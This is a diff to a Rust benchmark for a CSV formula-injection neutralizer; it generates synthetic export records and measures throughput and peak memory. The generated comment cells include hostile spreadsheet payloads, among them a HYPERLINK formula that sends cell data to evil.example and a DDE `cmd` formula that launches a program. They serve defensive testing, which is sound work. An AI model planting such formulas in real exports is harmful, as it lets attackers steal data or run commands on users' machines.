@@ -17,40 +17,59 @@ use safeguard::csv::Neutralizer;
 
 const CHUNK: usize = 64 * 1024;
 
-/// One row of 10 columns: mostly benign, a few formula-like and quoted cells.
-fn row(i: usize, out: &mut Vec<u8>) {
-    use std::io::Write;
-    let _ = match i % 16 {
-        0 => writeln!(
-            out,
-            "{i},alice{i},=HYPERLINK(\"\"),-{i}.5,foo@example.org,\"Smith, J\",2024-01-0{},+1 555 {i},note {i},{}",
-            i % 9,
-            i * 7
-        ),
-        5 => writeln!(
-            out,
-            "{i},bob{i},@SUM(A1),{i}.25,bar@example.org,\"say \"\"hi\"\"\",2024-02-1{},-{i},memo,{}",
-            i % 9,
-            i * 3
-        ),
-        _ => writeln!(
-            out,
-            "{i},user{i},plain text {i},{i}.75,user{i}@example.org,City {},2024-03-2{},{},comment number {i},{}",
-            i % 50,
-            i % 9,
-            i * 11,
-            i % 1000
-        ),
+/// One record of 10 columns as an application would export it: ids, names, e-mail addresses,
+/// amounts (some negative), dates, phone numbers, free text. About one record in 4 has cells the
+/// `csv` crate's writer quotes (a comma, embedded `"`, a line break); one in 4 carries a hostile
+/// cell (formula, DDE, `@SUM`, phone-like `+1 555`), quoted as well when it holds `,` or `"`.
+fn record(i: usize) -> [String; 10] {
+    let name = match i % 8 {
+        3 => format!("Smith, J{i}"),
+        6 if i % 32 == 6 => format!("O\"Brien \"Bob\" {i}"),
+        _ => format!("user{i}"),
     };
+    let comment = match i % 16 {
+        0 => "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")".to_owned(),
+        5 => "@SUM(A1:A9)".to_owned(),
+        9 => "=cmd|' /C calc'!A0".to_owned(),
+        12 => format!("line one\nline two, {i}"),
+        13 => format!("+1 555 {i}"),
+        _ => format!("comment number {i}"),
+    };
+    [
+        i.to_string(),
+        name,
+        format!("user{i}@example.org"),
+        if i % 5 == 0 {
+            format!("-{}.{:02}", i % 1000, i % 100)
+        } else {
+            format!("{}.{:02}", i % 1000, i % 100)
+        },
+        format!("2024-{:02}-{:02}", i % 12 + 1, i % 28 + 1),
+        format!("City {}", i % 50),
+        comment,
+        format!("555-01{:02}", i % 100),
+        ["active", "suspended", "closed"][i % 3].to_owned(),
+        (i * 7 % 10_000).to_string(),
+    ]
+}
+
+/// Appends rows from `*next` on to `out` (through the `csv` crate's writer) until it holds at
+/// least `bytes` bytes.
+fn fill(out: &mut Vec<u8>, next: &mut usize, bytes: usize) {
+    let mut w = csv::Writer::from_writer(std::mem::take(out));
+    while w.get_ref().len() < bytes {
+        for _ in 0..16 {
+            w.write_record(record(*next)).expect("write");
+            *next += 1;
+        }
+        w.flush().expect("flush");
+    }
+    *out = w.into_inner().expect("flush");
 }
 
 fn export(bytes: usize) -> Vec<u8> {
-    let mut out = Vec::with_capacity(bytes + 256);
-    let mut i = 0;
-    while out.len() < bytes {
-        row(i, &mut out);
-        i += 1;
-    }
+    let mut out = Vec::with_capacity(bytes + 4096);
+    fill(&mut out, &mut 0, bytes);
     out
 }
 
@@ -106,20 +125,21 @@ fn peak_memory(total: usize) {
     // Warm up allocations the measurement should not count (the row generator's buffers).
     let mut rows = Vec::with_capacity(2 * CHUNK);
     let mut out = Vec::with_capacity(2 * CHUNK);
+    let mut i = 0;
+    // Touch the generator's and the output's buffers once so the measurement counts the engine.
+    fill(&mut rows, &mut i, CHUNK);
+    nz.rewriter().feed(&rows, &mut out).expect("no reject");
     let before = vm_hwm_kib();
     let mut rw = nz.rewriter();
-    let (mut fed, mut i, mut max_out) = (0usize, 0usize, 0usize);
+    let (mut fed, mut max_out) = (0usize, 0usize);
     while fed < total {
         rows.clear();
-        while rows.len() < CHUNK {
-            row(i, &mut rows);
-            i += 1;
-        }
+        fill(&mut rows, &mut i, CHUNK);
         out.clear();
         rw.feed(&rows, &mut out).expect("no reject");
         max_out = max_out.max(out.capacity());
         black_box(&out);
-        fed += rows.len();
+        fed += &rows.len();
     }
     rw.finish(&mut out).expect("no reject");
     let after = vm_hwm_kib();
@@ -144,6 +164,17 @@ fn main() {
     let input = export(8 * 1024 * 1024);
     let nz = Neutralizer::new();
     let mut out = Vec::with_capacity(input.len() * 2);
+    let quoted = input
+        .split(|&b| b == b'\n')
+        .filter(|l| l.contains(&b'"'))
+        .count();
+    println!(
+        "input: {} bytes, {} lines, {} with a quoted cell, {} cells neutralized",
+        input.len(),
+        input.iter().filter(|&&b| b == b'\n').count(),
+        quoted,
+        stream(&nz, &input, &mut out)
+    );
     let mut c = Criterion::default().configure_from_args();
     let mut g = c.benchmark_group("csv");
     g.throughput(Throughput::Bytes(input.len() as u64));
